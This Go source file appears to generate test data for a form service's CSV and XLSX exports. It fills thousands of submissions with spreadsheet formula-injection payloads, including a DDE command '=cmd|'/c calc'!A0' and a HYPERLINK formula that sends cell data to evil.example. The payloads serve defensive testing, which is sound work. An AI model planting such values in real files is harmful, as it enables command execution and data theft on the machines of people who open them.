package main

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"time"

	"formwright/shared/form"
	"formwright/shared/quiz/quiztest"
	"formwright/shared/store/embedded"
)

// tableRows is how many submissions the tables hold.
const tableRows = 5000

// traps are texts that a spreadsheet could run, lose or tear apart.
var traps = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1",
	"＝1+1", "＋1", "－1", "＠SUM(1)", "=cmd|'/c calc'!A0", `=HYPERLINK("https://evil.example/?"&A1,"more")`, "'=1+1", `"=1+1"`,
	"a;=1+1;b", `a;"=1+1";b`, "a;  +1+1", "first\n=1+1\nlast", "first\r\n-1+1", "a,=1+1,b", "a\t@SUM(1)",
	"two\nlines", "three\r\nlines\r\nhere", `"quoted", and more`, "Grüße, 日本語, العربية, 😀, e\u0301", " spaces around ", "_x0041_", "<b>&amp;</b>", "0012", "1e5", "3/4", "TRUE",
}

// tables writes DIR/submissions.csv and .xlsx as the service does, and
// DIR/submissions.json with what was sent: a list of lists of name, e-mail
// address and answers, oldest first, after the titles and stems of the form.
func tables(dir string) error {
	home, err := os.MkdirTemp("", "tables")
	if err != nil {
		return err
	}
	defer os.RemoveAll(home)
	store, err := embedded.Open(home, embedded.Options{})
	if err != nil {
		return err
	}
	defer store.Close()
	forms := form.New(store.Table(), store.Blobs(), time.Now)
	ctx := context.Background()
	f, err := askedForm(ctx, forms)
	if err != nil {
		return err
	}
	sent, err := fill(ctx, forms, f)
	if err != nil {
		return err
	}
	for _, kind := range []form.Table{form.CSV, form.XLSX} {
		if err := writeTable(ctx, forms, f, kind, filepath.Join(dir, "submissions."+string(kind))); err != nil {
			return err
		}
	}
	data, err := json.Marshal(map[string]any{"stems": stems(), "sent": sent})
	if err != nil {
		return err
	}
	return os.WriteFile(filepath.Join(dir, "submissions.json"), data, 0o644)
}

func stems() []string { return []string{"=1+1 is", "Line;=1+1;@SUM(1)", "Choose"} }

func askedForm(ctx context.Context, forms *form.Service) (form.Form, error) {
	s := stems()
	q := quiztest.Of("=Title", quiztest.Ask(s[0], quiztest.Accept("2")), quiztest.Ask(s[1], quiztest.Accept("x")),
		quiztest.Ask(s[2], quiztest.Choices([]int{0, 1}, "=1+1", "-2", "three")))
	f, err := forms.Create(ctx, "owner", "job", q.Title, q)
	if err != nil {
		return f, err
	}
	return forms.Publish(ctx, "owner", f.PublicID)
}

// fill submits every trap in every column many times, and gives what was sent by
// the id of its submission.
func fill(ctx context.Context, forms *form.Service, f form.Form) (map[string][]string, error) {
	ids, rows, errs := make([]string, tableRows), make([][]string, tableRows), make([]error, tableRows)
	var all sync.WaitGroup
	few := make(chan struct{}, 64)
	for i := range tableRows {
		name := strings.Join(strings.Fields(strings.ToValidUTF8(traps[(i+7)%len(traps)], "")), " ")
		if strings.ContainsAny(name, "\ufeff\u200b") {
			name = ""
		}
		rows[i] = []string{name, fmt.Sprintf("=cmd+%d@school.example", i), traps[i%len(traps)], fmt.Sprintf("%s %d", traps[(i+3)%len(traps)], i), "=1+1; -2"}
		few <- struct{}{}
		all.Go(func() {
			first, _ := json.Marshal(rows[i][2]) // texts always marshal
			second, _ := json.Marshal(rows[i][3])
			r, err := forms.Submit(ctx, f.PublicID, form.Post{
				Answers:    map[string]json.RawMessage{"q1": first, "q2": second, "q3": json.RawMessage(`["c1","c2"]`)},
				Respondent: &form.Respondent{Name: rows[i][0], Email: rows[i][1]},
			})
			ids[i], errs[i] = r.SubmissionID, err
			<-few
		})
	}
	all.Wait()
	sent := map[string][]string{}
	for i, id := range ids {
		sent[id] = rows[i]
	}
	return sent, errors.Join(errs...)
}

func writeTable(ctx context.Context, forms *form.Service, f form.Form, kind form.Table, path string) error {
	out, err := os.Create(path)
	if err != nil {
		return err
	}
	defer out.Close() // closed below when all went well
	if err := forms.Export(ctx, "owner", f.PublicID, kind, out); err != nil {
		return err
	}
	return out.Close()
}
